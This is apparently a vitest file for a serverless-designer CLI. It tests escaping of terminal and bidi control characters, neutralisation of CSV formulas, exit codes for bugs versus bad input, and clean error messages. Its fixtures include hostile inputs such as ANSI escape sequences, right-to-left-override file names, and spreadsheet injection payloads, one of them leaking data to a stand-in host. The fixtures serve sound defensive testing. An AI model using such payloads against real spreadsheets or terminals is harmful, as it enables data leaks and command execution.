// The CLI tells bugs from bad input (issue 13, bullet 3), in-process through cli/main.ts runMain:
// exit 3 and one line for a bug, escaped control and bidi characters in everything printed, CSV
// cells that cannot run as formulas, a byte order mark accepted, and no message that prints
// undefined, null, NaN or [object Object] over a set of bad inputs. The real process (closed
// pipes, --debug, a stray throw) is in hardening.process.test.ts.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { CliInputError, type Command } from '../../cli/command';
import { COMMANDS, runMain } from '../../cli/main';
import { csvCell, terminalSafe } from '../../cli/text';
import { parseDesign, serializeDesign } from '../../core/model';
import { runCommand } from '../support/golden';

const dir = mkdtempSync(join(tmpdir(), 'sd-hardening-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const cli = (args: string[], commands: readonly Command[] = COMMANDS) => runCommand((a, io) => runMain(a, io, commands), args);
const version = (JSON.parse(readFileSync('package.json', 'utf8')) as { version: string }).version;

/** What a terminal acts on: C0 (but tab, LF, and CR before LF), DEL, C1, bidi controls, line
 *  separators, lone surrogates. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

describe('terminalSafe: control and bidi characters as visible \\uXXXX escapes', () => {
  it('escapes C0 (not tab or newline), DEL, C1, bidi controls and marks, line separators and lone surrogates', () => {
    const cases: [string, string][] = [
      ['\u0000', '\\u0000'], ['\u0007', '\\u0007'], ['\u0008', '\\u0008'], ['\u000b', '\\u000b'], ['\u000c', '\\u000c'], ['\u001b[31m', '\\u001b[31m'],
      ['a\rb', 'a\\u000db'], ['\u007f', '\\u007f'], ['\u0085', '\\u0085'], ['\u009b2J', '\\u009b2J'],
      ['\u202a', '\\u202a'], ['\u202b', '\\u202b'], ['\u202c', '\\u202c'], ['\u202d', '\\u202d'], ['\u202eexe.fdp', '\\u202eexe.fdp'],
      ['\u2066', '\\u2066'], ['\u2067', '\\u2067'], ['\u2068', '\\u2068'], ['\u2069', '\\u2069'],
      ['\u200e', '\\u200e'], ['\u200f', '\\u200f'], ['\u061c', '\\u061c'], ['\u2028', '\\u2028'], ['\u2029', '\\u2029'],
      ['x\ud800y', 'x\\ud800y'], ['x\udfffy', 'x\\udfffy'], ['\udc00\ud800', '\\udc00\\ud800'],
    ];
    for (const [raw, shown] of cases) expect(terminalSafe(raw), JSON.stringify(raw)).toBe(shown);
  });

  it('keeps newlines, tabs, CRLF line ends and every printable script, emoji included', () => {
    const text = 'Orders →\tqueue\r\nλ é 日本 שלום مرحبا 🚀 👩‍💻\n';
    expect(terminalSafe(text)).toBe(text);
  });

  it('is idempotent, and JSON stays JSON that parses to the same strings', () => {
    const names = ['\u001b]0;pwned\u0007', '\u202eexe.fdp', 'lone \ud800 half', 'c1 \u0085 \u009b'];
    const json = terminalSafe(JSON.stringify({ names }));
    expect(terminalSafe(json)).toBe(json);
    expect(json).not.toMatch(RAW_UNSAFE);
    expect(JSON.parse(json)).toEqual({ names });
  });
});

describe('csvCell: formulas made inert (OWASP), RFC 4180 quoting, numbers kept', () => {
  it('prefixes text starting with = + - @ tab or CR with a quote inside a quoted cell', () => {
    expect(csvCell('=HYPERLINK("http://evil.example","click")')).toBe('"\'=HYPERLINK(""http://evil.example"",""click"")"');
    expect(csvCell('+1+cmd|\' /C calc\'!A0')).toBe('"\'+1+cmd|\' /C calc\'!A0"');
    expect(csvCell('-2+3')).toBe('"\'-2+3"');
    expect(csvCell('@SUM(A1:A9)')).toBe('"\'@SUM(A1:A9)"');
    expect(csvCell('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvCell('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('quotes text with a comma, a double quote, CR or LF, and leaves other text alone', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('Items handler')).toBe('Items handler');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
  });

  it('a number the CLI formatted stays a number, negative ones too; text posing as a number does not', () => {
    expect(csvCell('-12.50', 'number')).toBe('-12.50');
    expect(csvCell('-1000000', 'number')).toBe('-1000000');
    expect(csvCell('0.0000002', 'number')).toBe('0.0000002');
    expect(csvCell('tiered from 0.0000035', 'number')).toBe('tiered from 0.0000035');
    expect(csvCell('-1+cmd', 'number')).toBe('"\'-1+cmd"');
    expect(csvCell('-12.50')).toBe('"\'-12.50"');
  });
});

describe('bugs exit 3 with one line; bad input keeps exit 2', () => {
  const throwing = (name: string, thrown: () => unknown): Command => ({
    name, summary: 'throws', help: `Usage: ${name}`,
    run: async (_args, io) => { io.out('partial'); throw thrown(); },
  });
  /** A bug as it would look: an internal helper reading past the end of what it was given. */
  const invariant = () => {
    const lines: { monthly: { amount: number } }[] = [];
    try { return lines[0].monthly.amount; } catch (e) { return e; }
  };

  it('a throw from a command: exit 3, one line with the version, the command and the message, asking to report it', async () => {
    const r = await cli(['cost', 'x.design.json'], [throwing('cost', invariant)]);
    expect(r.code).toBe(3);
    expect(r.out).toBe('partial\n');
    expect(r.err).toBe(`serverless-designer ${version}: internal error in \`cost\`: Cannot read properties of undefined (reading 'monthly'). This is a bug — please report it with the design file; run with --debug for the stack.\n`);
  });

  it('--debug (before or after the command) adds the stack trace, naming where it was thrown', async () => {
    function deepInsideTheEstimator(): never { throw new RangeError('tier list out of order'); }
    const cmd = throwing('cost', () => { try { deepInsideTheEstimator(); } catch (e) { return e; } });
    for (const args of [['--debug', 'cost', 'x'], ['cost', 'x', '--debug']]) {
      const r = await cli(args, [cmd]);
      expect(r.code).toBe(3);
      const [first, ...stack] = r.err.trimEnd().split('\n');
      expect(first).toBe(`serverless-designer ${version}: internal error in \`cost\`: tier list out of order. This is a bug — please report it with the design file; the stack trace follows.`);
      expect(stack[0]).toBe('RangeError: tier list out of order');
      expect(stack.join('\n')).toMatch(/at deepInsideTheEstimator /);
    }
    // The command never sees --debug.
    let seen: string[] = [];
    await cli(['--debug', 'peek', 'a', '--', '--debug'], [{ name: 'peek', summary: '', help: '', run: async (args) => { seen = args; return 0; } }]);
    expect(seen).toEqual(['a', '--', '--debug']);
  });

  it('what is thrown need not be an Error: the line still says what happened, with no undefined, null or [object Object]', async () => {
    for (const value of [undefined, null, {}, { code: 42 }, '', 'plain string', 7, Symbol('s')]) {
      const r = await cli(['lint', 'x'], [throwing('lint', () => value)]);
      expect(r.code).toBe(3);
      expect(r.err.trimEnd().split('\n')).toHaveLength(1);
      expect(r.err).toMatch(/^serverless-designer [\d.]+: internal error in `lint`: .+\. This is a bug/);
      expect(r.err).not.toMatch(/\bundefined\b|\bnull\b|\[object Object\]|NaN/);
    }
    const multi = await cli(['lint', 'x'], [throwing('lint', () => new Error('first line\nsecond line\n'))]);
    expect(multi.err).toMatch(/internal error in `lint`: first line second line\. This is a bug/);
    expect(multi.err.trimEnd().split('\n')).toHaveLength(1);
  });

  it('a command that ends without a valid exit code is a bug too', async () => {
    const returns = (value: unknown): Command => ({ name: 'odd', summary: '', help: '', run: async () => value as number });
    expect(await cli(['odd'], [returns(undefined)])).toMatchObject({ code: 3, err: expect.stringMatching(/internal error in `odd`: the command ended with no exit code\. This is a bug/) });
    expect(await cli(['odd'], [returns(7)])).toMatchObject({ code: 3, err: expect.stringMatching(/internal error in `odd`: the command ended with exit code 7\. This is a bug/) });
    expect((await cli(['odd'], [returns(1)])).code).toBe(1);
  });

  it('wrong options, a CliInputError and a failed system call are bad input: exit 2 with the message, not a bug report', async () => {
    const strict: Command = { name: 'strict', summary: '', help: '', run: async (args) => { parseArgs({ args, options: { format: { type: 'string' } } }); return 0; } };
    const unknown = await cli(['strict', '--colour'], [strict]);
    expect(unknown).toMatchObject({ code: 2, err: expect.stringMatching(/^strict: Unknown option '--colour'/) });
    expect(unknown.err).not.toMatch(/internal error/);
    const input = await cli(['deep', 'x'], [throwing('deep', () => new CliInputError('x: the alternative "B" has no region'))]);
    expect(input).toMatchObject({ code: 2, err: 'deep: x: the alternative "B" has no region\n' });
    const fsError = await cli(['write', 'x'], [throwing('write', () => Object.assign(new Error("EACCES: permission denied, open '/root/out.svg'"), { code: 'EACCES', syscall: 'open', path: '/root/out.svg' }))]);
    expect(fsError).toMatchObject({ code: 2, err: "write: EACCES: permission denied, open '/root/out.svg'\n" });
    // And the real commands: an unknown option is still exit 2.
    expect(await cli(['lint', '--colour', 'x.design.json'])).toMatchObject({ code: 2, err: expect.stringMatching(/^lint: Unknown option '--colour'/) });
  });

  it('--help lists --debug and the exit codes 0, 1, 2 and 3', async () => {
    const r = await cli(['--help']);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/Usage: serverless-designer \[--debug\] <command>/);
    expect(r.out).toMatch(/--debug {5}on an internal error, print its stack trace too/);
    expect(r.out).toMatch(/Exit codes: 0 fine; 1 findings or problems in a design; 2 a file cannot be read, written or\nparsed, or the options are wrong; 3 an internal error — a bug in serverless-designer, please report it\./);
  });
});

/** rest-api with hostile names and ids: every node renamed, one id and the file name hostile too. */
function hostileDesign(): { file: string; names: string[] } {
  const design = JSON.parse(readFileSync('templates/rest-api.design.json', 'utf8'));
  const names = ['\u001b[31mRED\u001b[0m pool\u0007', '\u202eipa.exe API', 'handler \u009b2J\u0085 \u001b]0;pwned\u0007', 'table \ud800 \u2066iso\u2069 \u200f\u061c'];
  design.nodes.forEach((n: { name: string }, i: number) => { n.name = names[i]; });
  // The table's id, everywhere it is referenced (edges, usage).
  const oldId = 'tbl-items';
  const newId = 'tbl\u001b[2J-items';
  const rename = (v: unknown): unknown => {
    if (typeof v === 'string') return v === oldId ? newId : v;
    if (Array.isArray(v)) return v.map(rename);
    if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k === oldId ? newId : k, rename(x)]));
    return v;
  };
  const file = join(dir, 'evil\u001b[2J\u202ename.design.json');
  writeFileSync(file, JSON.stringify(rename(design), null, 2));
  return { file, names };
}

describe('every printed string is escaped at the output boundary', () => {
  const { file, names } = hostileDesign();
  const out = (name: string) => join(dir, name);
  const runs: string[][] = [
    ['validate', file], ['validate', '--format', 'json', file], ['lint', '--fail-on', 'info', file], ['lint', '--format', 'json', file], ['lint', '--format', 'sarif', file],
    ['retry-paths', file], ['retry-paths', '--format', 'json', file], ['reach', file], ['reach', '--format', 'json', file],
    ['cost', file], ['cost', '--format', 'json', file], ['cost', '--format', 'csv', file], ['cost', file, '--profile', '\u001b[31mnope'],
    ['compare', file, '--region-b', 'eu-west-1'], ['compare', '--format', 'json', file, '--profile-b', 'peak'],
    ['report', file, '-o', out('r\u001b[2J.html')], ['diagram', file, '-o', out('d\u202e.svg')], ['export', file, '--sam', out('sam\u0007/template.yaml')],
    ['lint', join(dir, 'missing\u001b[2J.design.json')], ['\u001b[2Jcommand'],
  ];

  it('no raw control, bidi or lone-surrogate character reaches stdout or stderr, from any command', async () => {
    for (const args of runs) {
      const r = await cli(args);
      expect(r.code, `${args.join(' ')}: ${r.err}`).toBeLessThan(3);
      expect(r.out, args.join(' ')).not.toMatch(RAW_UNSAFE);
      expect(r.err, args.join(' ')).not.toMatch(RAW_UNSAFE);
    }
  }, 60_000);

  it('the names are still there, visibly escaped: in text, and unchanged once JSON or SARIF is parsed', async () => {
    const lint = await cli(['lint', '--fail-on', 'info', file]);
    expect(lint.out).toContain('evil\\u001b[2J\\u202ename.design.json');
    const cost = await cli(['cost', file]);
    for (const name of names) expect(cost.out).toContain(terminalSafe(name));
    expect(cost.out).toContain('handler \\u009b2J\\u0085 \\u001b]0;pwned\\u0007');
    expect(cost.out).toContain('table \\ud800 \\u2066iso\\u2069 \\u200f\\u061c');
    const json = JSON.parse((await cli(['cost', '--format', 'json', file])).out) as { components: { node: string; nodeName: string }[] };
    expect(new Set(json.components.map((c) => c.nodeName))).toEqual(new Set([names[1], names[2], names[3]]));
    expect(json.components.map((c) => c.node)).toContain('tbl\u001b[2J-items');
    const sarif = JSON.parse((await cli(['lint', '--format', 'sarif', file])).out) as { runs: { artifacts: { location: { uri: string } }[] }[] };
    expect(sarif.runs[0].artifacts[0].location.uri).toBe(file);
    const missing = await cli(['lint', join(dir, 'missing\u001b[2J.design.json')]);
    expect(missing.err).toContain('missing\\u001b[2J.design.json: cannot read: no such file');
  });
});

/** RFC 4180 rows (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

describe('cost --format csv', () => {
  it('names and ids that would run as formulas get a leading quote; amounts, negative ones too, stay numbers', async () => {
    const design = JSON.parse(readFileSync('templates/rest-api.design.json', 'utf8'));
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+SUM(1,2)', '-2+3 handler', '@cmd|\'/c calc\'!A0'];
    design.nodes.forEach((n: { name: string }, i: number) => { n.name = hostile[i]; });
    const file = join(dir, 'formulas.design.json');
    writeFileSync(file, JSON.stringify(design));
    const r = await cli(['cost', '--format', 'csv', '--free-tier', file]);
    expect(r.code).toBe(0);
    const rows = parseCsv(r.out.replace(/\n$/, ''));
    const header = rows[0];
    const col = (name: string) => header.indexOf(name);
    const body = rows.slice(1);
    // Every cell of a name from the design starts with the quote, and nothing else changed.
    for (const row of body.filter((x) => x[col('node')] !== '*')) {
      expect(hostile.map((h) => `'${h}`)).toContain(row[col('nodeName')]);
    }
    for (const row of body) for (const cell of row) expect(cell, `a cell a spreadsheet would run: ${cell}`).not.toMatch(/^[=+@\t\r]/);
    // The free tier's credit lines are negative numbers, written as numbers (no quote, no quotes).
    const credits = body.filter((x) => x[col('node')] === '*');
    expect(credits.length).toBeGreaterThan(0);
    for (const row of credits) {
      expect(row[col('monthly')]).toMatch(/^-\d+(\.\d+)?$/);
      expect(row[col('quantity')]).toMatch(/^-\d+(\.\d+)?$/);
    }
    const rawLine = r.out.split('\r\n').find((l) => l.startsWith('*,'))!;
    expect(rawLine).toMatch(/,-\d+(\.\d+)?,/);
    expect(r.out).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
  });
});

describe('a UTF-8 byte order mark is accepted', () => {
  it('a design file starting with one loads; the design written back has none', async () => {
    const text = readFileSync('templates/rest-api.design.json', 'utf8');
    const file = join(dir, 'bom.design.json');
    writeFileSync(file, `\ufeff${text}`);
    const r = await cli(['validate', file]);
    expect(r).toMatchObject({ code: 0, out: `${file}: valid (4 nodes, 2 edges)\n` });
    expect((await cli(['lint', file])).code).toBe(0);
    const parsed = parseDesign(`\ufeff${text}`);
    expect(parsed.ok).toBe(true);
    if (parsed.ok) expect(serializeDesign(parsed.design).charCodeAt(0)).toBe('{'.charCodeAt(0));
  });

  it('an imported SAM template starting with one imports, and the design it writes has none', async () => {
    const template = join(dir, 'bom-template.yaml');
    writeFileSync(template, `\ufeff${readFileSync('test/fixtures/iac/sam-orders.yaml', 'utf8')}`);
    const design = join(dir, 'from-bom.design.json');
    const r = await cli(['import', template, '-o', design, '--no-layout']);
    expect(r.code, r.err).toBe(0);
    const written = readFileSync(design);
    expect(written[0]).toBe('{'.charCodeAt(0));
    expect((await cli(['validate', design])).code).toBe(0);
  });
});

/** Bad inputs: mutations of a template (one kind of problem each), a design that loads with every
 *  kind of problem it can load with, and text that is not a design. */
function badInputs(): string[] {
  const base = readFileSync('templates/rest-api.design.json', 'utf8');
  const clone = () => JSON.parse(base);
  const inputs: Record<string, string | object> = { empty: '', 'json-nul': 'null', list: '[]', text: '"a design"', truncated: base.slice(0, 500), bom: `\ufeff${base}` };
  const mutate = (name: string, change: (d: any) => void) => { const d = clone(); change(d); inputs[name] = d; }; // eslint-disable-line @typescript-eslint/no-explicit-any
  for (const [i, v] of [null, {}, 3, 'other'].entries()) mutate(`format-${i}`, (d) => { d.format = v; });
  for (const [i, v] of [null, 99, '1', -1, 1.5, {}].entries()) mutate(`version-${i}`, (d) => { d.schemaVersion = v; });
  for (const [i, v] of [null, {}, 'x'].entries()) mutate(`nodes-${i}`, (d) => { d.nodes = v; });
  for (const [i, v] of [null, {}, 7, ['a']].entries()) {
    mutate(`name-${i}`, (d) => { d.nodes[2].name = v; });
    mutate(`id-${i}`, (d) => { d.nodes[2].id = v; });
    mutate(`kind-${i}`, (d) => { d.nodes[2].kind = v; });
    mutate(`from-${i}`, (d) => { d.edges[0].from = v; });
    mutate(`memory-${i}`, (d) => { d.nodes[2].props.memoryMb = v; });
    mutate(`env-${i}`, (d) => { d.nodes[2].props.environment = { A: v }; });
    mutate(`usage-${i}`, (d) => { d.usage = v; });
    mutate(`profile-${i}`, (d) => { d.usage.profiles.expected = v; });
    mutate(`active-${i}`, (d) => { d.usage.active = v; });
    mutate(`suppression-${i}`, (d) => { d.suppressions = [v]; });
    mutate(`alternative-${i}`, (d) => { d.alternatives = [v]; });
  }
  mutate('id-missing', (d) => { delete d.nodes[2].id; });
  mutate('to-missing', (d) => { delete d.edges[0].to; });
  mutate('kind-unknown', (d) => { d.nodes[2].kind = 'mystery'; d.edges[1].kind = 'teleport'; });
  mutate('props-list', (d) => { d.nodes[2].props = []; });
  mutate('blank-names', (d) => { d.name = ''; d.nodes.forEach((n: { name: string }) => { n.name = ''; }); });
  mutate('alternative-empty', (d) => { d.alternatives = [{ name: 'B' }]; });
  mutate('every-problem', (d) => {
    Object.assign(d.nodes[2].props, { memoryMb: 99999, timeoutSeconds: -1, reservedConcurrency: 1e308 });
    d.nodes.push({ id: 'users', kind: 'sqsQueue', name: 'a second "users"' }, { id: 'orphan', kind: 'lambda', name: 'orphan', parent: 'no-such-vpc' });
    d.edges.push(
      { id: 'e-dangling', kind: 'trigger', from: 'nowhere', to: 'fn-items' },
      { id: 'e-not-allowed', kind: 'trigger', from: 'tbl-items', to: 'users' },
      { id: 'e-api-items', kind: 'access', from: 'fn-items', to: 'tbl-items' },
    );
    d.usage.active = 'missing-profile';
    d.usage.profiles.expected.nodes = { ...d.usage.profiles.expected.nodes, ghost: { requestsPerMonth: 5 } };
    d.suppressions = [{ ruleId: 'RETRY-01', target: 'ghost', reason: 'gone' }];
    d.alternatives = [{ name: 'A', nodes: [], edges: [{ id: 'x', kind: 'trigger', from: 'a', to: 'b' }] }];
  });
  const files = Object.entries(inputs).map(([name, v]) => {
    const f = join(dir, `bad-${name}.design.json`);
    writeFileSync(f, typeof v === 'string' ? v : JSON.stringify(v, null, 2));
    return f;
  });
  const fixtures = ['templates', 'test/fixtures/cli', 'test/fixtures/migrations', 'test/fixtures/rules']
    .flatMap((d) => readdirSync(d).filter((f) => f.endsWith('.json')).map((f) => join(d, f)));
  return [...files, ...fixtures, join(dir, 'no-such-file.design.json')];
}

/** A word a message should never print: the marks of a value that was not there or not text.
 *  "JSON null" is how a message names a null the file itself holds. */
const BAD_TOKEN = /\bundefined\b|\bnull\b|\bNaN\b|\[object Object\]/;
const badTokenIn = (text: string) => BAD_TOKEN.exec(text.replace(/JSON null/g, ''))?.[0];

/** The string values of a parsed JSON document (JSON's own null is a value, not a message). */
const stringsOf = (v: unknown): string[] => (typeof v === 'string' ? [v] : Array.isArray(v) ? v.flatMap(stringsOf) : v && typeof v === 'object' ? Object.values(v).flatMap(stringsOf) : []);

describe('no message prints undefined, null, NaN or [object Object]', () => {
  it('every command over every bad input, template and fixture: text says what is wrong, JSON is JSON, no bug exits', async () => {
    const inputs = badInputs();
    const rulesFixture = (f: string) => f.startsWith('test/fixtures/rules');
    const runsOf = (f: string): string[][] => [
      ['validate', f], ['validate', '--format', 'json', f], ['lint', f], ['lint', '--format', 'json', f], ['lint', '--format', 'sarif', f],
      ['retry-paths', f], ['retry-paths', '--format', 'json', f], ['reach', f], ['reach', '--format', 'json', f],
      ['cost', f], ['cost', '--format', 'json', f], ['cost', '--format', 'csv', f], ['cost', f, '--profile', 'peak'], ['cost', `${f}#Nope`],
      ['compare', f, f], ['compare', f, '--region-b', 'eu-west-1'], ['compare', '--format', 'json', f, '--profile-b', 'nope'],
      // The slower commands over the templates and the bad inputs (the rule fixtures are many).
      ...(rulesFixture(f) ? [] : [
        ['report', f, '-o', join(dir, 'audit.html')], ['diagram', f, '-o', join(dir, 'audit.svg')],
        ['export', f, '--sam', join(dir, 'audit-sam', 'template.yaml'), '--force'], ['export', f, '--cdk', join(dir, 'audit-cdk'), '--force', '--format', 'json'],
      ]),
    ];
    const problems: string[] = [];
    let runs = 0;
    const codes = new Map<number, number>();
    for (const f of inputs) {
      for (const args of runsOf(f)) {
        const r = await cli(args);
        runs += 1;
        codes.set(r.code, (codes.get(r.code) ?? 0) + 1);
        const what = args.join(' ');
        if (r.code === 3) problems.push(`${what}: internal error: ${r.err}`);
        const errToken = badTokenIn(r.err);
        if (errToken) problems.push(`${what}: stderr prints ${errToken}: ${r.err.split('\n').find((l) => badTokenIn(l))}`);
        const machine = args.includes('json') || args.includes('sarif');
        if (machine && r.code < 2) {
          let doc: unknown;
          try { doc = JSON.parse(r.out); } catch { problems.push(`${what}: stdout is not JSON`); continue; }
          const bad = stringsOf(doc).find((s) => badTokenIn(s));
          if (bad !== undefined) problems.push(`${what}: a JSON string prints ${badTokenIn(bad)}: ${bad}`);
        } else {
          const token = badTokenIn(r.out);
          if (token) problems.push(`${what}: stdout prints ${token}: ${r.out.split('\n').find((l) => badTokenIn(l))}`);
        }
      }
    }
    expect(problems).toEqual([]);
    // The inputs did exercise the bad-input paths, and every kind of outcome but a bug.
    expect(runs).toBeGreaterThan(5000);
    expect(codes.get(2)).toBeGreaterThan(500);
    expect(codes.get(1)).toBeGreaterThan(100);
    expect(codes.get(0)).toBeGreaterThan(1000);
    expect(codes.has(3)).toBe(false);
  }, 120_000);

  it('import over bad templates and every template fixture: the report says what was skipped, without those words', async () => {
    const sam = readFileSync('test/fixtures/iac/sam-orders.yaml', 'utf8');
    const templates: Record<string, string> = {
      empty: '', 'yaml-nul': 'null', list: '[]', scalar: 'hello', truncated: sam.slice(0, 300), 'resources-nul': 'Resources: null', 'resources-list': 'Resources: [1, 2]',
      'type-nul': 'Resources:\n  Fn:\n    Type: null\n', 'type-object': 'Resources:\n  Fn:\n    Type: {a: 1}\n',
      'properties-list': 'Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties: [1]\n',
      'values-nul': 'Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties:\n      MemorySize: null\n      Timeout: {}\n      Runtime: [x]\n      Events: {E: null, F: {Type: null}, G: {Type: SQS, Properties: {Queue: null, BatchSize: {}}}}\n',
      'queue-nul': 'Resources:\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: null\n      RedrivePolicy: {deadLetterTargetArn: null, maxReceiveCount: {}}\n',
      'ref-object': 'Resources:\n  Fn:\n    Type: AWS::Lambda::Function\n    Properties:\n      Role: {Ref: {x: 1}}\n      Environment: {Variables: {A: null, B: {x: 1}}}\n',
      'json-nul': '{"Resources": {"A": null, "B": {"Type": "AWS::SNS::Topic", "Properties": null}}}',
    };
    const files = [
      ...Object.entries(templates).map(([name, text]) => { const f = join(dir, `template-${name}.yaml`); writeFileSync(f, text); return f; }),
      ...['test/fixtures/iac', 'test/fixtures/cli/iac'].flatMap((d) => readdirSync(d).filter((f) => /\.(ya?ml|json)$/.test(f)).map((f) => join(d, f))),
    ];
    const problems: string[] = [];
    for (const [i, f] of files.entries()) {
      for (const format of ['text', 'json']) {
        const r = await cli(['import', f, '-o', join(dir, `imported-${i}-${format}.design.json`), '--no-layout', '--format', format]);
        const what = `import ${f} --format ${format}`;
        if (r.code === 3) problems.push(`${what}: internal error: ${r.err}`);
        const texts = [r.err, ...(format === 'json' && r.code === 0 ? stringsOf(JSON.parse(r.out)) : [r.out])];
        const bad = texts.find((t) => badTokenIn(t));
        if (bad !== undefined) problems.push(`${what}: prints ${badTokenIn(bad)}: ${bad.split('\n').find((l) => badTokenIn(l))}`);
      }
    }
    expect(problems).toEqual([]);
  }, 60_000);

  it('the bad inputs are said plainly: a JSON null by name, a broken edge by what it links', async () => {
    const dirFile = (name: string) => join(dir, `bad-${name}.design.json`);
    badInputs();
    const nameNull = await cli(['validate', dirFile('name-0')]);
    expect(nameNull.out).toContain(':$.nodes[2].name (node "fn-items"): name must be a string, not JSON null');
    const fromObject = await cli(['validate', dirFile('from-1')]);
    expect(fromObject.out).toContain(':$.edges[0].from (edge "(not an id) → Items handler"): from must be a string, not an object');
    const toMissing = await cli(['validate', dirFile('to-missing')]);
    expect(toMissing.out).toContain(':$.edges[0].to (edge "Items API → (missing)"): to is required');
    const idObject = await cli(['validate', '--format', 'json', dirFile('id-1')]);
    expect(JSON.parse(idObject.out).files[0].problems[0]).toMatchObject({ path: '$.nodes[2].id', target: { id: '2', name: 'Items handler', type: 'node' }, message: 'id must be a string, not an object' });
    const format = await cli(['validate', dirFile('format-0')]);
    expect(format.out).toContain('"format" is JSON null, expected "serverless-design"');
  });
});
